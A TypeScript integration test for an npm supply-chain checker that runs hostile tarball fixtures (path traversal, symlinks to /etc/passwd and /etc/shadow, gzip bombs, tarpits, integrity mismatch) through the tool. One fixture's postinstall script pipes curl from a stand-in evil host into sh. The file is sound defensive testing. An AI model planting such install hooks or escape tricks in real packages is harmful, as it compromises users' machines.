import { strict as assert } from 'node:assert';
import * as crypto from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { cacheLines } from '../../support/cache-contents';
import type { FindingCode } from '../../../src/core/trust/types';
import { type CheckOptions, type CheckReport, runCheck } from '../../../src/engine/check/run-check';
import { downloadTarball } from '../../../src/engine/content/fetch-contents';
import { MAX_PATH_LENGTH } from '../../../src/engine/content/read-tarball';
import { EngineError } from '../../../src/engine/infra/errors';
import { RegistryHttp } from '../../../src/engine/registry/http';
import { ScenarioBuilder, createTarball, tarballPath } from '../../fixtures/registry/corpus';
import * as H from '../../fixtures/registry/hostile-tarballs';
import { type FixtureRegistry, startFixtureRegistry } from '../../fixtures/registry/server';
import { until } from '../../support/wait';
import { trustlens } from '../../support/cli';
import { isolatedNpmEnv } from '../../support/npm-env';

const MB = 1024 * 1024;
const GB = 1024 * MB;
const NOW = '2025-01-01T00:00:00Z';
/** Every hostile package: 1.0.0–1.0.2 ordinary, 1.1.0 (the locked version) hostile, compared with 1.0.2. */
const HOSTILE = '1.1.0';
/** What the report must say about a case: a finding of this code, or an error with this code (and message). */
type Expect = { finding: FindingCode; truncated?: boolean } | { error: string[]; message?: RegExp } | { clean: true };

interface Case {
  tarball: (name: string, ctx: { marker: string; escapeDir: string }) => Buffer;
  expect: Expect;
  integrity?: 'other';
  tarpit?: H.TarpitMode;
  /** Also run through the CLI (cases that finish quickly: the CLI has no timeout option). */
  cli?: boolean;
}

const CASES: Record<string, Case> = {
  'h-traversal': { tarball: (n, c) => H.traversalTarball(n, HOSTILE, c.marker, c.escapeDir), expect: { finding: 'content-path-escape' }, cli: true },
  'h-links': { tarball: (n, c) => H.linksTarball(n, HOSTILE, c.marker, c.escapeDir), expect: { finding: 'content-path-escape' }, cli: true },
  'h-link-loop': { tarball: (n) => H.linkLoopTarball(n, HOSTILE), expect: { clean: true } },
  'h-huge-entry': { tarball: (n) => H.hugeEntryTarball(n, HOSTILE, 150 * MB), expect: { finding: 'content-size-jump' } },
  'h-declared-pax': { tarball: (n) => H.declaredHugeTarball(n, HOSTILE, 'pax'), expect: { error: ['bad-response'], message: /tar archive is truncated/ } },
  'h-declared-base256': {
    tarball: (n) => H.declaredHugeTarball(n, HOSTILE, 'base256'),
    expect: { error: ['bad-response'], message: /tar archive is truncated/ },
  },
  'h-gzip-bomb': { tarball: (n) => H.gzipBombTarball(n, HOSTILE, 6 * GB), expect: { finding: 'content-size-jump', truncated: true }, cli: true },
  'h-integrity': {
    tarball: (n) => createTarball({ 'package.json': H.manifestOf(n, HOSTILE), 'index.js': 'module.exports = 2;\n' }),
    integrity: 'other',
    expect: { finding: 'integrity-mismatch' },
    cli: true,
  },
  'h-truncated-gzip': {
    tarball: (n) => H.truncatedGzip(createTarball({ 'package.json': H.manifestOf(n, HOSTILE), 'index.js': crypto.randomBytes(40_000).toString('hex') }), 0.5),
    expect: { error: ['bad-response'], message: /gzip stream is truncated/ },
  },
  'h-garbage': { tarball: () => H.garbage(64 * 1024), expect: { error: ['bad-response'], message: /not a tar archive/ }, cli: true },
  'h-many-entries': { tarball: (n) => H.manyEntriesTarball(n, HOSTILE, 100_000), expect: { finding: 'content-size-jump' } },
  'h-long-names': { tarball: (n) => H.longNamesTarball(n, HOSTILE), expect: { finding: 'content-path-escape' } },
  'h-stalled': {
    tarball: (n) => createTarball({ 'package.json': H.manifestOf(n, HOSTILE), 'index.js': 'x'.repeat(20_000) }),
    tarpit: { mode: 'stall', afterBytes: 200 },
    expect: { error: ['timeout'] },
  },
  'h-drip': {
    tarball: (n) => createTarball({ 'package.json': H.manifestOf(n, HOSTILE) }),
    tarpit: { mode: 'drip', bytes: 16, everyMs: 100 },
    expect: { error: ['timeout'] },
  },
  'h-endless': {
    tarball: (n) => createTarball({ 'package.json': H.manifestOf(n, HOSTILE) }),
    tarpit: { mode: 'endless' },
    expect: { error: ['too-large', 'timeout'] },
  },
};

/** Ordinary packages beside them, with their ordinary findings. */
const ORDINARY = { steady: '1.0.1', scripted: '1.0.1' };

function writeProject(
  dir: string,
  registryUrl: string,
  locked: Record<string, string>,
  integrity: (name: string, version: string) => string | undefined,
): void {
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'victim', version: '1.0.0', dependencies: locked }, null, 2));
  const packages: Record<string, object> = { '': { name: 'victim', version: '1.0.0', dependencies: locked } };
  for (const [name, version] of Object.entries(locked))
    packages[`node_modules/${name}`] = { version, resolved: `${registryUrl}${tarballPath(name, version).slice(1)}`, integrity: integrity(name, version) };
  fs.writeFileSync(
    path.join(dir, 'package-lock.json'),
    JSON.stringify({ name: 'victim', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2),
  );
}

/** Every file under `dir` (relative paths), symlinks listed, never followed. */
function walk(dir: string, out: string[] = [], rel = ''): string[] {
  if (!fs.existsSync(dir)) return out;
  for (const e of fs.readdirSync(path.join(dir, rel), { withFileTypes: true })) {
    const r = path.join(rel, e.name);
    out.push(r);
    if (e.isDirectory()) walk(dir, out, r);
  }
  return out;
}

/**
 * Hostile tarballs through the whole check: runCheck against the loopback fixture registry (and a tarpit host for
 * tarballs that never finish), and `trustlens check` for the cases that finish quickly. For each: a finding or an
 * error code in the report, bounded time (the engine's timeouts; the test must finish) and memory (the engine's
 * budgets), nothing written outside the cache folder, a cache that a second run reuses or refetches cleanly, and
 * the other packages of the project judged exactly as without the hostile ones.
 */
describe('hostile tarballs through trustlens check', function () {
  this.timeout(240_000);
  const nonce = crypto.randomBytes(6).toString('hex');
  const marker = `trustlens-escape-${nonce}`;
  const realTmp = os.tmpdir();
  let work: string;
  let registry: FixtureRegistry;
  let tarpit: H.Tarpit;
  let project: string;
  let controlProject: string;
  let cacheDir: string;
  let sandboxTmp: string;
  let tmpBefore: Set<string>;
  let projectBefore: string[];
  let first: CheckReport;
  let second: CheckReport;
  let control: CheckReport;
  let integrityOf: (name: string, version: string) => string | undefined;
  const secondRunTarballs: string[] = [];

  const options = (dir: string, cache: string): CheckOptions => ({
    projectDir: dir,
    registry: registry.url,
    env: isolatedNpmEnv(dir),
    cacheDir: cache,
    now: new Date(NOW),
    timeoutMs: 2500,
    advisories: { npm: false, osv: false },
    // A hang guard, not a limit under test: on a loaded machine the default 30 s read limit could cut the 100 MB
    // entry's read short, and a read cut by the clock is (rightly) analysed again by the second run.
    contentLimits: { timeoutMs: 3_600_000 },
  });

  /** runCheck with TMPDIR pointing at an empty sandbox: anything the run writes to "the temp folder" shows there. */
  async function sandboxed<T>(f: () => Promise<T>): Promise<T> {
    const saved = process.env.TMPDIR;
    process.env.TMPDIR = sandboxTmp;
    try {
      return await f();
    } finally {
      if (saved === undefined) delete process.env.TMPDIR;
      else process.env.TMPDIR = saved;
    }
  }

  before(async () => {
    work = fs.mkdtempSync(path.join(realTmp, 'trustlens-hostile-tarballs-'));
    sandboxTmp = path.join(work, 'tmp');
    fs.mkdirSync(sandboxTmp);
    const b = new ScenarioBuilder({ registryKey: null });
    for (const name of Object.keys(CASES)) {
      const p = b.package(name);
      // A month apart: each release is compared with the one before it (see core/trust/baseline.ts: no burst here).
      for (const [i, v] of ['1.0.0', '1.0.1', '1.0.2', HOSTILE].entries())
        p.version(v, {
          publishedAt: new Date(Date.UTC(2024, i, 1)).toISOString(),
          publisher: { name: 'alice' },
          files: { 'index.js': 'module.exports = 1;\n' },
        });
    }
    b.package('steady')
      .version('1.0.0', { publisher: { name: 'alice' } })
      .version('1.0.1', { publisher: { name: 'alice' } });
    b.package('scripted')
      .version('1.0.0', { publisher: { name: 'alice' }, files: { 'index.js': 'module.exports = 1;\n' } })
      .version('1.0.1', {
        publisher: { name: 'alice' },
        scripts: { postinstall: 'node setup.js' },
        files: { 'index.js': 'module.exports = 1;\n', 'setup.js': "require('child_process').execSync('curl -s https://evil.example/x | sh');\n" },
      });
    const corpus = await b.build();
    tarpit = await H.startTarpit(
      Object.fromEntries(
        Object.entries(CASES)
          .filter(([, c]) => c.tarpit)
          .map(([name, c]) => [tarballPath(name, HOSTILE), { body: c.tarball(name, { marker, escapeDir: realTmp }), ...c.tarpit! }]),
      ),
    );
    for (const [name, c] of Object.entries(CASES)) {
      H.serveTarball(corpus, name, HOSTILE, c.tarball(name, { marker, escapeDir: realTmp }), {
        integrity: c.integrity ?? 'match',
        url: c.tarpit ? `${tarpit.url}${tarballPath(name, HOSTILE).slice(1)}` : undefined,
      });
    }
    registry = await startFixtureRegistry(corpus);
    integrityOf = (name, version) => corpus.packuments.get(name)?.versions[version]?.dist.integrity;

    project = path.join(work, 'project');
    writeProject(project, registry.url, { ...Object.fromEntries(Object.keys(CASES).map((n) => [n, HOSTILE])), ...ORDINARY }, integrityOf);
    controlProject = path.join(work, 'control');
    writeProject(controlProject, registry.url, ORDINARY, integrityOf);
    cacheDir = path.join(work, 'cache');
    control = await runCheck(options(controlProject, path.join(work, 'control-cache')));

    tmpBefore = new Set(fs.readdirSync(realTmp));
    projectBefore = walk(project).sort();
    first = await sandboxed(() => runCheck(options(project, cacheDir)));
    registry.resetRequests();
    tarpit.hits.clear();
    second = await sandboxed(() => runCheck(options(project, cacheDir)));
    secondRunTarballs.push(...registry.requests.filter((r) => r.url.endsWith('.tgz')).map((r) => r.url), ...tarpit.hits.keys());
  });
  after(async () => {
    await registry?.close();
    await tarpit?.close();
    if (work) fs.rmSync(work, { recursive: true, force: true });
  });

  const findings = (r: CheckReport, name: string) => r.findings.filter((f) => f.package === name);
  const errors = (r: CheckReport, name: string) => r.errors.filter((e) => e.package === `${name}@${HOSTILE}` || e.package === name);

  for (const [name, c] of Object.entries(CASES)) {
    const e = c.expect;
    const what =
      'finding' in e
        ? `${e.finding}${e.truncated ? ' (read cut at the budget)' : ''}`
        : 'error' in e
          ? `error ${e.error.join(' or ')}`
          : 'no finding, no error';
    it(`${name}: ${what}; the package itself is still judged`, () => {
      for (const [run, report] of [
        ['first run', first],
        ['second run', second],
      ] as const) {
        const card = report.cards.find((k) => k.name === name && k.version === HOSTILE);
        assert.ok(card, `${run}: ${name} has a trust card (its history was read and judged)`);
        const got = findings(report, name);
        const errs = errors(report, name);
        if ('finding' in e) {
          const f = got.find((x) => x.code === e.finding);
          assert.ok(
            f,
            `${run}: ${name} should have ${e.finding}; findings: ${got.map((x) => x.code).join(', ') || 'none'}; errors: ${errs.map((x) => `${x.code} ${x.message}`).join('; ') || 'none'}`,
          );
          assert.equal(f.version, HOSTILE);
          assert.deepEqual(errs, [], `${run}: ${name} is analysed, not an error`);
          assert.equal(card.changes?.previous, '1.0.2', `${run}: compared with the release before it`);
          if (e.truncated !== undefined) assert.equal(card.changes?.truncated, e.truncated);
        } else if ('error' in e) {
          assert.equal(errs.length, 1, `${run}: one error for ${name}: ${JSON.stringify(report.errors)}`);
          assert.ok(e.error.includes(errs[0].code), `${run}: ${name}: ${errs[0].code} ${errs[0].message}`);
          if (e.message) assert.match(errs[0].message, e.message);
          assert.match(errs[0].message, /^content analysis: /);
          assert.deepEqual(
            got.filter((x) => x.code.startsWith('content-')),
            [],
            'no content finding from a tarball that could not be read',
          );
        } else {
          assert.deepEqual(
            got.map((x) => x.code),
            [],
            `${run}: ${name} has no finding`,
          );
          assert.deepEqual(errs, []);
          assert.equal(card.changes?.previous, '1.0.2', 'analysed against the release before it');
          assert.equal(card.changes?.truncated, false);
        }
      }
    });
  }

  it('the ordinary packages beside them are judged exactly as in a project without them', () => {
    const view = (r: CheckReport, n: string) =>
      findings(r, n).map((f) => ({ code: f.code, severity: f.severity, message: f.message, safeVersion: f.safeVersion }));
    assert.deepEqual(view(control, 'steady'), []);
    assert.deepEqual(
      view(control, 'scripted')
        .map((f) => f.code)
        .sort(),
      ['content-network', 'content-process', 'install-script-added'],
      'the control run shows the ordinary findings',
    );
    for (const n of Object.keys(ORDINARY)) {
      assert.deepEqual(view(first, n), view(control, n), n);
      assert.deepEqual(view(second, n), view(control, n), n);
    }
    assert.deepEqual(control.errors, []);
    assert.equal(first.errors.filter((e) => Object.keys(ORDINARY).some((n) => e.package.startsWith(`${n}@`))).length, 0);
  });

  it('integrity mismatch is a loud, critical finding with both hashes, and never cached', () => {
    const f = findings(first, 'h-integrity').find((x) => x.code === 'integrity-mismatch')!;
    assert.equal(f.severity, 'critical');
    assert.match(f.message, /does not match the registry's own integrity hash/);
    assert.match(f.evidence.find((x) => x.label === 'registry metadata (dist.integrity)')!.value, /^sha512-/);
    assert.match(f.evidence.find((x) => x.label === 'served tarball')!.value, /^sha512-/);
    assert.notEqual(f.evidence[0].value, f.evidence[1].value);
    assert.ok(
      secondRunTarballs.some((u) => u.includes('h-integrity-1.1.0.tgz')),
      'the second run downloads it again',
    );
  });

  it('path escapes and links: each entry named, control characters neutralised, nothing followed or read', () => {
    const trav = findings(first, 'h-traversal').find((x) => x.code === 'content-path-escape')!;
    assert.equal(trav.severity, 'high');
    const labels = trav.evidence.map((x) => `${x.label} ${x.value}`).join('\n');
    assert.match(labels, new RegExp(`${marker}-absolute absolute path`));
    assert.match(labels, new RegExp(`${marker}-dotdot path climbs out`));
    assert.match(trav.message, /6 entries that leave the package/);
    const links = findings(first, 'h-links').find((x) => x.code === 'content-path-escape')!;
    const linkText = links.evidence.map((x) => `${x.label} ${x.value}`).join('\n');
    assert.match(linkText, /passwd symlink to \/etc\/passwd/);
    assert.match(linkText, /shadow hard link to \/etc\/shadow/);
    assert.match(linkText, /%1B\]0;owned%07%1B\[2Jterm symlink to \/etc\/passwd/);
    assert.match(linkText, /outside\/trustlens-escape-[0-9a-f]+-through-link written through the link outside → /);
    assert.match(links.message, /7 entries that leave the package/);
    assert.doesNotMatch(JSON.stringify(first.findings), /\\u001b|\\u0007/, 'no control character reaches the report');
    // the loop is never followed: no finding, no error, analysed
    assert.deepEqual(findings(first, 'h-link-loop'), []);
    // /etc/passwd was never read: its first line is nowhere in the report or the cache
    const passwd = fs.existsSync('/etc/passwd') ? fs.readFileSync('/etc/passwd', 'utf8').split('\n')[0] : undefined;
    if (passwd) {
      assert.ok(!JSON.stringify({ first, second }).includes(passwd));
      for (const f of walk(cacheDir))
        if (fs.statSync(path.join(cacheDir, f)).isFile()) assert.ok(!fs.readFileSync(path.join(cacheDir, f), 'utf8').includes(passwd), f);
    }
  });

  it('very long names and pax headers stay short in the report', () => {
    const long = findings(first, 'h-long-names');
    assert.ok(long.length > 0);
    for (const f of first.findings) {
      assert.ok(f.message.length < 2000, `${f.package} ${f.code}: message of ${f.message.length} characters`);
      for (const ev of f.evidence)
        assert.ok(ev.label.length + ev.value.length < 2000, `${f.package} ${f.code}: evidence of ${ev.label.length + ev.value.length} characters`);
    }
    const card = first.cards.find((k) => k.name === 'h-long-names')!;
    assert.ok(JSON.stringify(card).length < 20_000, `the card is ${JSON.stringify(card).length} characters`);
    assert.ok(!JSON.stringify(first).includes('x'.repeat(MAX_PATH_LENGTH)), 'no 900 KB pax path in the report');
  });

  it('nothing is written outside the cache folder: no extraction, no marker, no temp file', () => {
    // the temp folder the runs saw, and the project, are as they were
    assert.deepEqual(walk(sandboxTmp), [], 'TMPDIR of the runs stays empty');
    assert.deepEqual(walk(project).sort(), projectBefore, 'the project folder (also HOME) is unchanged');
    // the real temp folder: no new entry carries the marker, and no escape target exists
    const added = fs.readdirSync(realTmp).filter((f) => !tmpBefore.has(f));
    assert.deepEqual(
      added.filter((f) => f.includes(nonce)),
      [],
    );
    for (const suffix of ['dotdot', 'package-dotdot', 'absolute', 'cwd', 'backslash', 'drive', 'hardlink', 'through-link']) {
      for (const dir of [realTmp, process.cwd(), work, project, path.dirname(project)])
        assert.equal(fs.existsSync(path.join(dir, `${marker}-${suffix}`)), false, `${dir}/${marker}-${suffix}`);
    }
    for (const dir of [work, process.cwd()])
      assert.deepEqual(
        fs.readdirSync(dir).filter((f) => f.includes(nonce)),
        [],
        dir,
      );
    assert.deepEqual(
      walk(work).filter((f) => f.includes(nonce)),
      [],
    );
    // the cache holds JSON results only: no tarball, no file from one (cacheLines throws on anything else)
    const files = walk(cacheDir).filter((f) => fs.statSync(path.join(cacheDir, f)).isFile());
    assert.ok(files.length > 0);
    assert.ok(cacheLines(cacheDir).length > 0);
    const bytes = files.reduce((n, f) => n + fs.statSync(path.join(cacheDir, f)).size, 0);
    assert.ok(bytes < 2 * MB, `the cache is ${bytes} bytes`);
  });

  it('the second run reuses every cached analysis and downloads only what failed or did not match', () => {
    const fetched = (name: string) => secondRunTarballs.some((u) => u.includes(`/${name}-${HOSTILE}.tgz`));
    for (const [name, c] of Object.entries(CASES)) {
      const failed = 'error' in c.expect || ('finding' in c.expect && c.expect.finding === 'integrity-mismatch');
      assert.equal(fetched(name), failed, `${name} ${failed ? 'is' : 'is not'} downloaded again`);
    }
    assert.ok(!fetched('steady') && !secondRunTarballs.some((u) => u.includes('/steady-')));
    // h-endless may end at the body cap or at the timeout, whichever comes first on the machine: both are expected
    const accepted = (n: string, code: string) => (CASES[n] && 'error' in CASES[n].expect && CASES[n].expect.error.includes(code) ? 'expected error' : code);
    const summary = (r: CheckReport) =>
      Object.keys(CASES).map((n) => [
        n,
        findings(r, n)
          .map((f) => f.code)
          .sort(),
        errors(r, n).map((e) => accepted(n, e.code)),
      ]);
    assert.deepEqual(summary(second), summary(first));
  });

  it('a body that never ends is cut at the body cap and its connection closed at once, not at the timeout', async () => {
    const where = '/endless/-/endless-1.0.0.tgz';
    const pit = await H.startTarpit({ [where]: { body: Buffer.from('x'), mode: 'endless' } });
    try {
      // An hour's request timeout: a connection left open would stay open, and the hang guard would say so.
      const client = new RegistryHttp({ config: { values: { registry: pit.url }, sources: [] }, retries: 0, timeoutMs: 3_600_000, maxBodyBytes: 8 * MB });
      await assert.rejects(
        downloadTarball(client, `${pit.url}${where.slice(1)}`, { name: 'endless', version: '1.0.0' }),
        (e: unknown) => e instanceof EngineError && e.code === 'too-large',
      );
      await until('the tarpit to see its connection closed', () => pit.open() === 0);
      // Closed, the tarpit stops writing (it checks res.destroyed). What it sent of the endless body is the 8 MB cap and
      // what the sockets buffered (about 12 MB in all here): bounded, with room for larger socket buffers elsewhere.
      const sent = pit.sent.get(where) ?? 0;
      assert.ok(sent < 64 * MB, `the tarpit sent ${sent} bytes`);
    } finally {
      await pit.close();
    }
  });

  it('`trustlens check` (CLI): findings and errors in JSON, exit 1, text without control characters, nothing written', async () => {
    const names = Object.entries(CASES)
      .filter(([, c]) => c.cli)
      .map(([n]) => n);
    const cliProject = path.join(work, 'cli-project');
    writeProject(cliProject, registry.url, { ...Object.fromEntries(names.map((n) => [n, HOSTILE])), ...ORDINARY }, integrityOf);
    const cwd = path.join(work, 'cli-cwd');
    const tmp = path.join(work, 'cli-tmp');
    fs.mkdirSync(cwd);
    fs.mkdirSync(tmp);
    const env = isolatedNpmEnv(cliProject, { TMPDIR: tmp });
    const cache = path.join(work, 'cli-cache');
    const base = ['check', cliProject, '--registry', registry.url, '--now', NOW, '--advisories', 'off', '--cache-dir', cache];
    const json = await trustlens([...base, '--format', 'json'], env, cwd);
    assert.equal(json.code, 1, json.stderr);
    const out = JSON.parse(json.stdout) as {
      findings: { code: string; package: string; severity: string }[];
      summary: { errors: { package: string; code: string }[] };
    };
    const has = (n: string, code: string) => out.findings.some((f) => f.package === n && f.code === code);
    assert.ok(has('h-traversal', 'content-path-escape'));
    assert.ok(has('h-links', 'content-path-escape'));
    assert.ok(has('h-gzip-bomb', 'content-size-jump'));
    assert.ok(has('h-integrity', 'integrity-mismatch'));
    assert.ok(has('scripted', 'install-script-added') && !has('scripted', 'content-install-hook'), 'one finding per cause');
    assert.ok(!out.findings.some((f) => f.package === 'steady'));
    assert.deepEqual(
      out.summary.errors.map((e) => `${e.package} ${e.code}`),
      [`h-garbage@${HOSTILE} bad-response`],
    );
    assert.match(json.stderr, /h-garbage@1\.1\.0: content analysis: h-garbage@1\.1\.0: not a tar archive/);
    // text: the cached results of the JSON run, printed; a terminal gets no control characters
    const text = await trustlens(base, env, cwd);
    assert.equal(text.code, 1, text.stderr);
    assert.match(text.stdout, /CRITICAL integrity-mismatch {2}h-integrity@1\.1\.0/);
    assert.match(text.stdout, /HIGH {5}content-path-escape {2}h-links@1\.1\.0/);
    assert.doesNotMatch(text.stdout + text.stderr, /[\u0000-\u0008\u000b-\u001f\u007f]/);
    assert.deepEqual(walk(cwd), [], 'nothing in the working folder');
    assert.deepEqual(walk(tmp), [], 'nothing in TMPDIR');
    assert.deepEqual(walk(cliProject).sort(), ['package-lock.json', 'package.json']);
    for (const f of walk(cache)) if (fs.statSync(path.join(cache, f)).isFile()) assert.match(f, /\.seg$/);
    assert.ok(cacheLines(cache).length > 0, 'the cache holds whole JSON lines only');
  });
});
